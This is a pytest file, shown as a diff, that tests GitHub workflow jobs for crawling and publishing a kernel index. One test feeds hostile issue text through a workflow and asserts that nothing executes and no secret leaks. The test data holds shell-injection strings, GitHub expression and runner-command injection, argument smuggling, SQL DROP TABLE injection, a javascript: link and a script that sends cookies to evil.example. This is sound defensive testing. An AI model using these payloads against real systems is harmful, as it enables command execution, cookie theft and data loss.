@@ -1,0 +1,109 @@
+"""The steps of the workflows, run for real as far as no GitHub is needed."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.github_crawl.crawls import SECRET, kernel_file
+from tests.github_server import GithubServer
+from tests.github_server.workflows import HostedRun
+from tests.index.automation.jobs import OWN, Jobs
+from tests.workflows.runner import Ran, run_job
+
+# A shell that expanded any of these would make the file `pwned` in its folder.
+EXPANSIONS = (
+    "$(touch pwned)",
+    "`touch pwned`",
+    '"; touch pwned; "',
+    "'; touch pwned; '",
+    "&& touch pwned",
+    "| touch pwned",
+    "\n touch pwned\n",
+    "${{ github.token }}",
+    "--db=/tmp/pwned --post",
+)
+BODY = """### Operation
+
+{title}
+
+### Reference in PyTorch
+
+```python
+import os; os.system("touch pwned")
+```
+
+<!-- {title} -->
+<script>fetch("https://evil.example/" + document.cookie)</script>
+::set-output name=run-id::666
+::add-mask::pwned
+@everyone [x](javascript:alert(1)) '); DROP TABLE kernel_rows; --
+"""
+
+
+@pytest.fixture
+def server(tmp_path: Path):
+    with GithubServer(tmp_path / "hosted") as server:
+        yield server
+
+
+@pytest.fixture
+def jobs(server: GithubServer, tmp_path: Path) -> Jobs:
+    """A repository whose index is published once."""
+    jobs = Jobs(server, tmp_path / "jobs")
+    jobs.folder.mkdir()
+    jobs.list_sources("acme/a", "acme/b")
+    assert jobs.crawl_and_publish().code == 0
+    jobs.machine += 1
+    return jobs
+
+
+def assert_went_well(ran: list[Ran]) -> None:
+    assert ran
+    assert [(one.step.name, one.err) for one in ran if one.code != 0] == []
+
+
+def test_the_crawl_workflow_crawls_on_and_publishes(jobs: Jobs) -> None:
+    jobs.own.workflows["gpu.yml"] = [HostedRun(id=4711)]
+    jobs.hosted("acme/a").push({"new.py": kernel_file("new")})
+    # Nothing was verified: the artifact that this imports is not there.
+    ran = run_job(jobs, "crawl.yml", "crawl", without="verify import")
+    assert_went_well(ran)
+    # An artifact goes where the next job looks for it.
+    (jobs.work / "build" / "crawl" / "index.duckdb").stat()
+    assert (jobs.work / "output").read_text() == "run-id=4711\n"
+    assert_went_well(run_job(jobs, "crawl.yml", "publish"))
+    assert "acme/a:new.py::new" in jobs.live()
+    assert SECRET not in "".join(one.out + one.err for one in ran)
+
+
+def test_the_heartbeat_keeps_every_schedule_on(jobs: Jobs) -> None:
+    for workflow in ("crawl.yml", "wishes.yml", "gpu.yml"):
+        jobs.own.workflows[workflow] = []
+    assert_went_well(run_job(jobs, "crawl.yml", "heartbeat"))
+    assert jobs.own.enabled == ["crawl.yml", "wishes.yml", "gpu.yml"]
+
+
+def test_a_hostile_wish_goes_through_the_workflow_and_nothing_is_executed(
+    jobs: Jobs, tmp_path: Path
+) -> None:
+    for text in EXPANSIONS:
+        jobs.own.tracker.ask(f"[Wish] {text}", BODY.format(title=text), by="mallory")
+    ran = run_job(jobs, "wishes.yml", "wishes")
+    assert_went_well(ran)
+    assert len(ran) == 4
+    assert not list(tmp_path.rglob("pwned*"))
+    assert not (jobs.work / "output").exists(), "an issue set an output"
+    said = "".join(one.out + one.err for one in ran)
+    lines = said.splitlines()
+    assert not any(line.lstrip().startswith("::") for line in lines), "a command to the runner"
+    assert SECRET not in said
+    for issue in jobs.own.tracker.issues.values():
+        assert len(issue.comments) <= 1
+        for comment in issue.comments:
+            assert "<script" not in comment.body
+            assert "@everyone" not in comment.body
+            assert "javascript:" not in comment.body
+    assert jobs.server.world.find(OWN) is not None
+    assert len(jobs.live()) == 6
